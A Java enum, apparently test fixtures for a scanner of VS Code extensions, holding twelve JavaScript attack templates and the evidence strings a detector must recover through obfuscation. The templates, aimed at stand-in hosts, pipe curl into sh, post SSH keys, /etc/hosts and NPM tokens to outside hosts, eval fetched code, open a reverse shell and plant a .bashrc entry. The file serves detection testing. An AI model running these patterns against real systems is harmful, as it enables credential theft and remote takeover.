package dev.vsxray.scanner.javascript.disguise;

import java.util.List;
import java.util.function.UnaryOperator;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/**
 * An inert program that does what attacks do. Texts that a disguise may hide stand between guillemets; what must be
 * readable in the end are the {@link #evidence() texts} an analyst would look for.
 */
enum Payload {
    SHELL_COMMAND(
            "require(«child_process»)[«exec»](«curl https://a1.example/x | sh»);",
            "child_process",
            "https://a1.example/x"),
    FILE_TO_HOST(
            "const f = require(«fs»)[«readFileSync»](«/etc/hosts»);"
                    + "const r = require(«https»)[«request»]({hostname: «a2.example», path: «/up», method: «POST»});"
                    + "r[«write»](f); r[«end»]();",
            "fs",
            "/etc/hosts",
            "a2.example"),
    EVAL_OF_FETCHED(
            "require(«https»)[«get»](«https://a3.example/stage»,"
                    + " (m) => { let t = ''; m[«on»](«data», (d) => { t += d; }); m[«on»](«end», () => eval(t)); });",
            "https://a3.example/stage"),
    ENCODED_POWERSHELL(
            "require(«child_process»)[«spawn»](«powershell.exe», [«-NoProfile», «-EncodedCommand», «YQA0AA==»]);",
            "powershell.exe",
            "-EncodedCommand"),
    SSH_KEY(
            "const k = require(«fs»)[«readFileSync»](require(«os»)[«homedir»]() + «/.ssh/id_rsa», «utf8»);"
                    + "fetch(«https://a5.example/k», {method: «POST», body: k});",
            "/.ssh/id_rsa",
            "https://a5.example/k"),
    SHELL_START_FILE(
            "require(«fs»)[«appendFileSync»](require(«path»)[«join»](require(«os»)[«homedir»](), «.bashrc»),"
                    + " «nohup /tmp/a6.invalid &»);",
            ".bashrc",
            "/tmp/a6.invalid"),
    OPENED_DOCUMENTS(
            "require(«vscode»)[«workspace»][«onDidOpenTextDocument»]((d) =>"
                    + " fetch(«https://a7.example/doc», {method: «POST», body: d[«getText»]()}));",
            "https://a7.example/doc"),
    HOST_NAME_BY_DNS(
            "require(«dns»)[«lookup»](require(«os»)[«hostname»]() + «.t.a8.example», () => {});", ".t.a8.example"),
    REVERSE_SHELL(
            "const s = require(«net»)[«connect»](4444, «sh.a9.invalid»);"
                    + "const p = require(«child_process»)[«spawn»](«/bin/sh», [«-i»]); s[«write»](require(«os»)[«hostname»]());",
            "sh.a9.invalid",
            "/bin/sh"),
    CODE_IN_CONTEXT("require(«vm»)[«runInThisContext»](«globalThis.mark = 'b10.example'»);", "vm", "b10.example"),
    TOKEN_TO_HOST(
            "fetch(«https://a11.example/t?» + process[«env»][«NPM_TOKEN»]);", "https://a11.example/t?", "NPM_TOKEN"),
    INSTALLS_EXTENSION(
            "require(«child_process»)[«execSync»](«code --install-extension a12.invalid --force»);",
            "child_process",
            "--install-extension a12.invalid");

    private static final Pattern HIDDEN = Pattern.compile("«([^»]*)»");

    private final String template;
    private final List<String> evidence;

    Payload(String template, String... evidence) {
        this.template = template;
        this.evidence = List.of(evidence);
    }

    /** Texts that must be readable however the program is disguised. */
    List<String> evidence() {
        return evidence;
    }

    /** As a program without disguise. */
    String plain() {
        return hiding(JavaScriptText::quoted);
    }

    /** With each hidden text written as the given expression. */
    String hiding(UnaryOperator<String> expression) {
        Matcher matcher = HIDDEN.matcher(template);
        StringBuilder program = new StringBuilder();
        while (matcher.find()) {
            matcher.appendReplacement(program, Matcher.quoteReplacement(expression.apply(matcher.group(1))));
        }
        return matcher.appendTail(program).toString();
    }
}
